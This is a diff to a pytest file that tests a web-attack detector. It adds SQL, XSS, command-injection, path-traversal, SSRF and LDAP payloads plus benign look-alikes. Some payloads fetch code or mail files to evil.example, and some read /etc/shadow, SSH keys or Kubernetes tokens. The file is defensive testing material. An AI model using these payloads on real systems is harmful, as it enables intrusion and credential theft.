@@ -15,7 +15,7 @@ import numpy as np
 import pytest
 
 import guardrails.attacks
-from guardrails.attacks import libinjection, marks, path, spelling, sql, url
+from guardrails.attacks import host, libinjection, marks, path, spelling, sql
 from guardrails.attacks.marks import Mark, Reach, Table
 from guardrails.detectors.web_attack import CATEGORIES, WebAttack
 from guardrails.engine.detector import ConfigError, Target, find
@@ -52,11 +52,15 @@ ATTACKS = {
         "admin'--", "x' OR 'a'='a", "1 OR 1=1", "'; DROP TABLE users; --", "1 UNION SELECT name, pin FROM cards",
         "0 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "1;WAITFOR DELAY '0:0:9'--", "' ORDER BY 7-- ",
         "9' and extractvalue(1,concat(0x7e,version()))-- -", "Bobby'); DELETE FROM students;--",
-        "'; copy (select '') to program 'curl evil.example'--",
+        "'; copy (select '') to program 'curl evil.example'--", "or 'a' = n'a'", "or 2 between 1 and 3",
+        "\u2019 or \u20181\u2019=\u20181", "9or3=3", "' || app.adduser('eve', 'x') || '", "'; desc users; --",
+        "' grant connect to eve; --", "uni/**/on sel/**/ect 1", "(select top 1 name", "'^'", "'))", "%27%22%60",
     ],
     "XSS": [
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(2)>",
         "javascript:alert(document.domain)", "' onmouseover='alert(1)", "<iframe srcdoc=\"<script>x()</script>\">",
+        "top[\"al\"+\"ert\"](1)", "self['al\\x65rt'](1)", "[].constructor.constructor('x')()", "[1].find(alert)",
+        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
         "<a href=\"java\tscript:alert(1)\">y</a>", "</title><script src=//evil.example/x.js></script>",
     ],
     "COMMAND_INJECTION": [
@@ -65,12 +69,17 @@ ATTACKS = {
         "__import__('os').system('id')", "name\nwget http://evil.example/y -O /tmp/y", "x & net user eve Pa55 /add",
         "--upload-pack=touch /tmp/x", "-oProxyCommand=calc", "photo.png & calc.exe", "photo.png|id>/tmp/x",
         "x; docker run -v /:/host alpine", "x | mail -s y eve@evil.example < /etc/hostname",
+        "; frobnicate", "| frobnicate --all", "') && frobnicate a b", "|| frobnicate /srv/x", "& frobnicate /q &",
+        "$(frobnicate --all)", "`frobnicate --all`", ";fro'b'nicate", ";/us?/bi?/frob", "& 9frob x a.9z &", ";$HOME",
+        "a=fro;b=b;$a$b", "%3b%20frobnicate",
     ],
     "PATH_TRAVERSAL": [
         "../../etc/passwd", "..\\..\\windows\\win.ini", "/var/www/../../etc/shadow", "/proc/self/environ",
         "~/.ssh/id_rsa", "/etc/passwd\x00.png", "\\\\evil\\share\\x", "php://filter/read=string.rot13/resource=a.php",
         "....//....//etc/hosts", "uploads/../../../secret.txt",
-        "/run/secrets/kubernetes.io/serviceaccount/token",
+        "/run/secrets/kubernetes.io/serviceaccount/token", "..%uEFC8..%uEFC8etc%uEFC8issue",
+        "%e0%80%ae%e0%80%ae\\etc\\issue",
+        "%c0%5e%c0%5e%uF025boot.ini", "..0x5c..0x5cwindows0x5cx", ".?/.?/.?/etc/issue",
     ],
     "SSRF": [
         "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://2130706433/",
@@ -87,7 +96,7 @@ ATTACKS = {
     ],
     "NOSQL_INJECTION": ['{"$gt": ""}', "username[$ne]=x", "'; return this.password == 'x' || '", "x', $where: '1 == 1"],
     "XXE": ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>'],
-    "LDAP_INJECTION": ["*)(uid=*))(|(uid=*", "admin)(&)"],
+    "LDAP_INJECTION": ["*)(uid=*))(|(uid=*", "admin)(&)", "*(|(mail=*))"],
     "XPATH_INJECTION": ["x'] | //user/*['", "' or count(/*)=1 or 'a'='b"],
 }  # fmt: skip
 HARMLESS = [
@@ -105,6 +114,14 @@ HARMLESS = [
     "<!DOCTYPE html><html><head><title>T</title></head><body></body></html>",
     "<html><body><h1>Report</h1><p>All good.</p></body></html>",
     "```bash\nsudo apt-get update && sudo apt-get install -y nginx\n```",
+    "order_status = 'cancelled'", "android = 4", "&amp; so on", "&lt;b&gt;", "&page=2&size=10", "& Sons Ltd",
+    "| string | null", "| Name | Type |", "|| undefined", "&& props.items.length", "$(document)", "$(CC)",
+    "`useState`", "`git rebase`",
+    "; the rest of the sentence, as it was said", "| a row of a table without any end", "10.02.2024", "01:00",
+    "10:00AM", "0.95", "127.1", "2130706433", "localhost", "127.0.0.1:8080", "192.168.0.10", "v1.10.0.0.1",
+    "0x7f000001", "100%", "a:b", "backup-2024-10-05-12-30.zip",
+    "src/x.hh | 134 ++++++++++++++++++++++++++++++++---------", "'", "''",
+    "[ ] open [ ] done",
 ]  # fmt: skip
 
 
@@ -526,11 +543,42 @@ def test_conditions_of_searches_are_told_from_those_that_break_out() -> None:
 
 @claim("guardrails.web-attack-addresses")
 def test_a_bare_host_of_a_cloud_is_known() -> None:
-    assert url.is_host_of_metadata("169.254.169.254")
-    assert url.is_host_of_metadata("metadata.google.internal.")
-    assert url.is_host_of_metadata("169.254.0.23")
-    assert not url.is_host_of_metadata("metadata")
-    assert not url.is_host_of_metadata("8.8.8.8")
+    assert host.is_of_metadata("169.254.169.254")
+    assert host.is_of_metadata("metadata.google.internal.")
+    assert host.is_of_metadata("169.254.0.23")
+    assert not host.is_of_metadata("metadata")
+    assert not host.is_of_metadata("8.8.8.8")
+
+
+@claim("guardrails.web-attack-addresses")
+@pytest.mark.parametrize(
+    "text",
+    ["0x7f.1", "0x7F.0x00.0x00.0x01", "0177.0.0.1", "127.000.000.001", "127%2e0%2e0%2e1", "127%252e0.0.1", "[::1]",
+     "127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "localtest.me", "127.0.0.1.nip.io", "localhost:+11211aaa",
+     "http://\u24f5\u24fd\u24f6.\u24f5\u24fa\u24fc.\u24f5.\u24f5/", "https:/\\evil.example", "http:/\\/\\evil.example",
+     "https:evil.example", "http://////evil.example/", "https://192.0.2.2#.192.0.2.3/", "http://a.example?@b.example"],
+)  # fmt: skip
+def test_an_address_that_hides_is_found_wherever_it_stands(text: str) -> None:
+    assert "SSRF" in found(text, "text")
+
+
+@claim("guardrails.web-attack-addresses")
+def test_an_argument_for_hosts_takes_numbers_for_addresses_and_plain_ones_as_they_are() -> None:
+    for name in ("host", "targetHost", "server_ip", "hostname"):
+        for address in ("127.1", "2130706433", "0x7f000001", "0x7f.1"):
+            assert found(address, name) == {"SSRF"}
+        for address in ("127.0.0.1", "localhost", "db.example.com", "9.9.9.9", "10.0.0.7:5432"):
+            assert found(address, name) == set()
+    for name in ("zip", "count", "relationship"):
+        assert found("01001", name) == set()
+    assert found("127.1", "host", config={"allowed_hosts": ["127.1"]}) == set()
+
+
+@claim("guardrails.web-attack-kinds")
+def test_what_begins_like_a_command_is_at_home_where_commands_are() -> None:
+    assert found("| frobnicate --all", "text") == {"COMMAND_INJECTION"}
+    assert found("| frobnicate --all", "command") == set()
+    assert found("&& frobnicate --all\n|| frobnicate --none", "new_string") == set()
 
 
 @claim("guardrails.web-attack-training")
